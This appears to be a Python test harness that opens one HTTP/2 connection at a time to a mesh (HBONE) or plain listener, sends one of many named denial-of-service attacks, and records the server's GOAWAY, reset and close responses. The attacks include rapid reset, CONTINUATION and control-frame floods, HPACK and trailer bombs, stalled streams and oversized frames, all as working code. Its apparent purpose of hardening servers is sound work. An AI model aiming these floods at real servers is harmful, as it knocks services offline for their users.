"""Attacks by frames of HTTP/2, one connection each. Runs inside a pod, or as a module:

flood.py NAME ADDRESS PORT [CERTIFICATE AUTHORITY]   with a certificate: on an HBONE listener, else in plain

Prints one JSON object: {"goaway": code or null, "reset": [codes], "answered": N, "closed": bool, "sent": bytes}.
"""
import json
import socket
import ssl
import struct
import sys
import threading
import time

from hbone import frame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
MANY = 20_000


def integer(value, bits):
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    out, value = bytearray([most]), value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out) + bytes([value])


def literal(name, value, first=b"\x00"):
    return first + integer(len(name), 7) + name.encode() + integer(len(value), 7) + value.encode()


class Attack:
    """What to say, piece by piece; `request` begins a stream."""

    def __init__(self, authority):
        self.fields = b"".join(literal(*one) for one in (
            ((":method", "CONNECT"), (":authority", authority)) if authority else
            ((":method", "POST"), (":scheme", "http"), (":authority", "web"), (":path", "/"))))

    def request(self, stream, more=b"", end=False):
        return frame(HEADERS, 5 if end else 4, stream, self.fields + more)

    def rapid_reset(self):
        for stream in range(1, 2 * MANY, 2):
            yield self.request(stream) + frame(RESET, 0, stream, struct.pack(">I", 8))

    def streams(self):
        for stream in range(1, 2 * MANY, 2):
            yield self.request(stream)

    def continuation(self):
        yield frame(HEADERS, 0, 1, self.fields)
        for _ in range(2000):
            yield frame(CONTINUATION, 0, 1, literal("x", "y" * 16000)[:16384])

    def small_continuation(self):
        yield frame(HEADERS, 0, 1, self.fields)
        for _ in range(MANY):
            yield frame(CONTINUATION, 0, 1)

    def settings(self):
        for _ in range(MANY):
            yield frame(SETTINGS, 0, 0)

    def table_sizes(self):
        for number in range(MANY):
            yield frame(SETTINGS, 0, 0, struct.pack(">HI", 1, number % 2 * 4096))

    def ping(self):
        for _ in range(MANY):
            yield frame(PING, 0, 0, b"x" * 8)

    def empty_data(self):
        yield self.request(1)
        for _ in range(MANY):
            yield frame(DATA, 0, 1)

    def padding(self):
        yield self.request(1)
        for _ in range(MANY):
            yield frame(DATA, 8, 1, b"\xfa" + b"\0" * 250)

    def window_update(self):
        for _ in range(MANY):
            yield frame(UPDATE, 0, 0, struct.pack(">I", 1))

    def priority(self):
        for stream in range(1, 2 * MANY, 2):
            yield frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 1))

    def hpack_bomb(self):
        for stream in range(1, 400, 2):
            yield self.request(stream, literal("x", "y" * 4000, b"\x40") + b"\xbe" * 12000, True)

    def trailers_bomb(self):
        for stream in range(1, 400, 2):
            yield self.request(stream) + frame(DATA, 0, stream, b"x")
            yield frame(HEADERS, 5, stream, literal("x", "y" * 4000, b"\x40") + b"\xbe" * 12000)

    def stall(self):
        """Answers are asked for and never taken."""
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
        for stream in range(1, 200, 2):
            yield self.request(stream, end=True)

    def unfinished(self):
        """As much as there is credit for, on every stream, and no end."""
        for stream in range(1, 200, 2):
            yield self.request(stream)
            for _ in range(16):
                yield frame(DATA, 0, stream, b"x" * 16000)

    def trailers_of_a_refused_request(self):
        """What is no CONNECT is refused at once; the rest of it comes nevertheless."""
        head = b"".join(literal(*one) for one in ((":method", "POST"), (":scheme", "http"), (":path", "/"), (":authority", "a")))
        for stream in range(1, 200, 2):
            yield frame(HEADERS, 4, stream, head) + frame(DATA, 0, stream, b"x") + frame(HEADERS, 5, stream, literal("x", "y"))

    def large_frame(self):
        yield frame(DATA, 0, 1, b"x" * 0xFFFFF0)


NAMES = [name for name in vars(Attack) if not name.startswith("_") and name != "request"]


class Reader(threading.Thread):
    def __init__(self, one):
        super().__init__(daemon=True)
        self.one, self.goaway, self.resets, self.answered, self.closed = one, None, [], 0, False

    def run(self):
        heard = b""
        try:
            while part := self.one.recv(65536):
                heard += part
                while len(heard) >= 9 and len(heard) >= 9 + int.from_bytes(heard[:3], "big"):
                    length = int.from_bytes(heard[:3], "big")
                    self.take(heard[3], heard[9:9 + length])
                    heard = heard[9 + length:]
        except (OSError, ValueError):
            pass
        self.closed = True

    def take(self, kind, payload):
        if kind == GOAWAY:
            self.goaway = int.from_bytes(payload[4:8], "big")
        elif kind == RESET:
            self.resets.append(int.from_bytes(payload, "big"))
        elif kind == HEADERS:
            self.answered += 1


def connect(address, port, certificate):
    raw = socket.create_connection((address, port), 10)
    raw.settimeout(20)
    if not certificate:
        return raw
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    context.load_cert_chain(certificate)
    return context.wrap_socket(raw)


def flood(name, address, port, certificate=None, authority=None, patience=3.0):
    one = connect(address, port, certificate)
    reader = Reader(one)
    reader.start()
    sent = 0
    try:
        one.sendall(PREFACE + frame(SETTINGS, 0, 0))
        batch = b""
        for piece in getattr(Attack(authority), name)():
            batch += piece
            if len(batch) > 8192:
                one.sendall(batch)
                sent, batch = sent + len(batch), b""
            if reader.closed:
                break
        one.sendall(batch)
        sent += len(batch)
    except OSError:
        pass
    until = time.monotonic() + patience
    while not reader.closed and time.monotonic() < until:
        time.sleep(0.02)
    one.close()
    return {"goaway": reader.goaway, "reset": sorted(set(reader.resets)), "answered": reader.answered,
            "closed": reader.closed, "sent": sent}


if __name__ == "__main__":
    words = sys.argv[1:]
    print(json.dumps(flood(words[0], words[1], int(words[2]), *words[3:5])))
